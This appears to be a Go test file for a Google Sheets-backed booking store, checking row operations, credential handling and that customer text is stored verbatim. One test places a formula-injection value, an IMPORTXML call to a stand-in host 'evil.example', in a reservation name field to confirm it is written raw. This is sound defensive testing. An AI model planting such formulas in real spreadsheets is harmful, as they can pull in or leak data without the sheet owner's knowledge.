package store

import (
	"context"
	"encoding/json"
	"errors"
	"net/http"
	"net/http/httptest"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"google.golang.org/api/option"
	"google.golang.org/api/sheets/v4"

	"nahueltrek/api/internal/apperr"
)

type fakeClients struct {
	client      *http.Client
	err         error
	invalidated int
}

func (f *fakeClients) HTTPClient(context.Context) (*http.Client, error) {
	if f.err != nil {
		return nil, f.err
	}
	return f.client, nil
}

func (f *fakeClients) Invalidate(context.Context) error {
	f.invalidated++
	return nil
}

// fakeSheet serves the subset of the Sheets v4 REST API a SheetsTable uses.
type fakeSheet struct {
	mu         sync.Mutex
	rows       [][]string
	failStatus int
	deletes    []sheets.DimensionRange
	inputs     []string
}

var startRow = regexp.MustCompile(`![A-Z]+(\d+)`)

func (f *fakeSheet) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	f.mu.Lock()
	defer f.mu.Unlock()

	if f.failStatus != 0 {
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(f.failStatus)
		_, _ = w.Write([]byte(`{"error":{"code":` + strconv.Itoa(f.failStatus) + `,"message":"denied"}}`))
		return
	}
	opt := r.URL.Query().Get("valueInputOption")
	if opt != "" {
		f.inputs = append(f.inputs, opt)
	}
	stored := func(values []interface{}) []string {
		cells := stringCells(values)
		if opt == "USER_ENTERED" {
			for i, c := range cells {
				cells[i] = userEntered(c)
			}
		}
		return cells
	}

	path := r.URL.Path
	switch {
	case strings.HasSuffix(path, ":batchUpdate"):
		var req sheets.BatchUpdateSpreadsheetRequest
		_ = json.NewDecoder(r.Body).Decode(&req)
		rng := *req.Requests[0].DeleteDimension.Range
		f.deletes = append(f.deletes, rng)
		idx := int(rng.StartIndex) - 1
		f.rows = append(f.rows[:idx], f.rows[idx+1:]...)
		writeFakeJSON(w, map[string]any{})
	case strings.HasSuffix(path, ":append"):
		var vr sheets.ValueRange
		_ = json.NewDecoder(r.Body).Decode(&vr)
		for _, values := range vr.Values {
			f.rows = append(f.rows, stored(values))
		}
		writeFakeJSON(w, map[string]any{})
	case strings.HasSuffix(path, ":clear"):
		f.rows = nil
		writeFakeJSON(w, map[string]any{})
	case r.Method == http.MethodPut:
		var vr sheets.ValueRange
		_ = json.NewDecoder(r.Body).Decode(&vr)
		match := startRow.FindStringSubmatch(path)
		first, _ := strconv.Atoi(match[1])
		for i, values := range vr.Values {
			idx := first - FirstDataRow + i
			for len(f.rows) <= idx {
				f.rows = append(f.rows, nil)
			}
			f.rows[idx] = stored(values)
		}
		writeFakeJSON(w, map[string]any{})
	case r.Method == http.MethodGet && strings.Contains(path, "/values/"):
		values := make([][]any, 0, len(f.rows))
		for _, row := range f.rows {
			cells := make([]any, len(row))
			for i, c := range row {
				cells[i] = c
			}
			values = append(values, cells)
		}
		writeFakeJSON(w, map[string]any{"range": "Actividades!A2:K", "majorDimension": "ROWS", "values": values})
	case r.Method == http.MethodGet:
		writeFakeJSON(w, map[string]any{"sheets": []any{
			map[string]any{"properties": map[string]any{"sheetId": 0, "title": "Otra"}},
			map[string]any{"properties": map[string]any{"sheetId": 777, "title": "Actividades"}},
		}})
	default:
		http.NotFound(w, r)
	}
}

// userEntered mimics how Sheets parses typed input: formulas are evaluated and a
// leading plus sign is read as a number.
func userEntered(cell string) string {
	switch {
	case strings.HasPrefix(cell, "="):
		return "#EVALUATED"
	case strings.HasPrefix(cell, "+"):
		if _, err := strconv.ParseFloat(cell[1:], 64); err == nil {
			return cell[1:]
		}
	}
	return cell
}

func writeFakeJSON(w http.ResponseWriter, v any) {
	w.Header().Set("Content-Type", "application/json")
	_ = json.NewEncoder(w).Encode(v)
}

func newFakeSheetsTable(t *testing.T, gid int64) (*SheetsTable, *fakeSheet, *fakeClients) {
	t.Helper()
	sheet := &fakeSheet{}
	server := httptest.NewServer(sheet)
	t.Cleanup(server.Close)

	clients := &fakeClients{client: server.Client()}
	table := NewSheetsTable(clients, SheetsConfig{
		SpreadsheetID: "sheet-1",
		Sheet:         SheetActividades,
		Columns:       ActivitySchema.Width(),
		SheetGID:      gid,
		Options:       []option.ClientOption{option.WithEndpoint(server.URL + "/")},
	})
	return table, sheet, clients
}

func TestSheetsTableRanges(t *testing.T) {
	table, _, _ := newFakeSheetsTable(t, 0)
	if table.DataRange() != "Actividades!A2:K" {
		t.Fatalf("unexpected data range %s", table.DataRange())
	}
	if table.rowRange(5) != "Actividades!A5:K5" {
		t.Fatalf("unexpected row range %s", table.rowRange(5))
	}
	if table.appendRange() != "Actividades!A:K" {
		t.Fatalf("unexpected append range %s", table.appendRange())
	}
}

func TestSheetsGatewayLifecycle(t *testing.T) {
	table, sheet, _ := newFakeSheetsTable(t, 0)
	gw := NewGateway[Activity](table, ActivitySchema)
	ctx := context.Background()

	a1, err := gw.Create(ctx, Activity{Titulo: "uno"})
	if err != nil {
		t.Fatalf("create: %v", err)
	}
	gw.WithClock(func() time.Time { return a1.FechaCreacion.Add(time.Second) })
	a2, err := gw.Create(ctx, Activity{Titulo: "dos", Destacado: true})
	if err != nil {
		t.Fatalf("create: %v", err)
	}

	items, err := gw.List(ctx)
	if err != nil {
		t.Fatalf("list: %v", err)
	}
	if len(items) != 2 || !items[1].Destacado {
		t.Fatalf("unexpected list %+v", items)
	}

	desc := "actualizada"
	if _, err := gw.Update(ctx, a2.ID, func(a *Activity) error {
		ActivityPatch{Descripcion: &desc}.Apply(a)
		return nil
	}); err != nil {
		t.Fatalf("update: %v", err)
	}
	if sheet.rows[1][2] != "actualizada" || sheet.rows[0][2] != "" {
		t.Fatalf("update wrote to wrong row: %v", sheet.rows)
	}

	if err := gw.Delete(ctx, a1.ID); err != nil {
		t.Fatalf("delete: %v", err)
	}
	if len(sheet.deletes) != 1 {
		t.Fatalf("expected one delete request")
	}
	if d := sheet.deletes[0]; d.SheetId != 0 || d.StartIndex != 1 || d.EndIndex != 2 || d.Dimension != "ROWS" {
		t.Fatalf("unexpected delete range %+v", d)
	}
	if len(sheet.rows) != 1 || sheet.rows[0][0] != a2.ID {
		t.Fatalf("unexpected rows after delete %v", sheet.rows)
	}
	for _, opt := range sheet.inputs {
		if opt != "RAW" {
			t.Fatalf("unexpected value input option %s", opt)
		}
	}
}

func TestSheetsKeepsCustomerTextVerbatim(t *testing.T) {
	sheet := &fakeSheet{}
	server := httptest.NewServer(sheet)
	t.Cleanup(server.Close)
	table := NewSheetsTable(&fakeClients{client: server.Client()}, SheetsConfig{
		SpreadsheetID: "sheet-1",
		Sheet:         SheetReservas,
		Columns:       ReservationSchema.Width(),
		Options:       []option.ClientOption{option.WithEndpoint(server.URL + "/")},
	})
	reservations := NewReservations(table)
	ctx := context.Background()

	created, err := reservations.Create(ctx, Reservation{
		ActividadID: "act_1",
		Nombre:      `=IMPORTXML("http://evil.example","//a")`,
		Email:       "ana@example.com",
		Telefono:    "+56912345678",
		Mensaje:     "=1+1",
	})
	if err != nil {
		t.Fatalf("create: %v", err)
	}
	got, err := reservations.Get(ctx, created.ID)
	if err != nil {
		t.Fatalf("get: %v", err)
	}
	if got.Nombre != created.Nombre || got.Telefono != "+56912345678" || got.Mensaje != "=1+1" {
		t.Fatalf("text changed on the way through the sheet: %+v", got)
	}

	mensaje := "+1"
	if _, err := reservations.Update(ctx, created.ID, func(r *Reservation) error {
		ReservationPatch{Mensaje: &mensaje}.Apply(r)
		return nil
	}); err != nil {
		t.Fatalf("update: %v", err)
	}
	if got, _ := reservations.Get(ctx, created.ID); got.Mensaje != "+1" {
		t.Fatalf("update changed text: %q", got.Mensaje)
	}
	for _, opt := range sheet.inputs {
		if opt != "RAW" {
			t.Fatalf("unexpected value input option %s", opt)
		}
	}
}

func TestSheetsTableLooksUpGIDByTitle(t *testing.T) {
	table, sheet, _ := newFakeSheetsTable(t, -1)
	ctx := context.Background()
	sheet.rows = [][]string{{"act_1"}, {"act_2"}}

	if err := table.DeleteRow(ctx, 3); err != nil {
		t.Fatalf("delete: %v", err)
	}
	if sheet.deletes[0].SheetId != 777 || sheet.deletes[0].StartIndex != 2 {
		t.Fatalf("unexpected delete range %+v", sheet.deletes[0])
	}
}

func TestSheetsTableReplace(t *testing.T) {
	table, sheet, _ := newFakeSheetsTable(t, 0)
	sheet.rows = [][]string{{"stale"}, {"stale"}, {"stale"}}

	if err := table.Replace(context.Background(), [][]string{{"act_1", "uno"}}); err != nil {
		t.Fatalf("replace: %v", err)
	}
	if len(sheet.rows) != 1 || sheet.rows[0][1] != "uno" {
		t.Fatalf("unexpected rows %v", sheet.rows)
	}
}

func TestSheetsUnauthorizedInvalidatesCredential(t *testing.T) {
	for _, status := range []int{http.StatusUnauthorized, http.StatusForbidden} {
		table, sheet, clients := newFakeSheetsTable(t, 0)
		sheet.failStatus = status

		_, err := table.Rows(context.Background())
		if !errors.Is(err, apperr.ErrUnauthorized) {
			t.Fatalf("status %d: expected unauthorized, got %v", status, err)
		}
		if clients.invalidated != 1 {
			t.Fatalf("status %d: expected credential invalidation", status)
		}
	}
}

func TestSheetsServerErrorKeepsCredential(t *testing.T) {
	table, sheet, clients := newFakeSheetsTable(t, 0)
	sheet.failStatus = http.StatusBadRequest

	_, err := table.Rows(context.Background())
	if err == nil || errors.Is(err, apperr.ErrUnauthorized) {
		t.Fatalf("expected plain api error, got %v", err)
	}
	if clients.invalidated != 0 {
		t.Fatalf("credential must survive non-auth errors")
	}
}

func TestSheetsNotInitialized(t *testing.T) {
	table, _, clients := newFakeSheetsTable(t, 0)
	clients.err = apperr.ErrNotInitialized

	_, err := NewGateway[Activity](table, ActivitySchema).List(context.Background())
	if !errors.Is(err, apperr.ErrNotInitialized) {
		t.Fatalf("expected not initialized, got %v", err)
	}
}
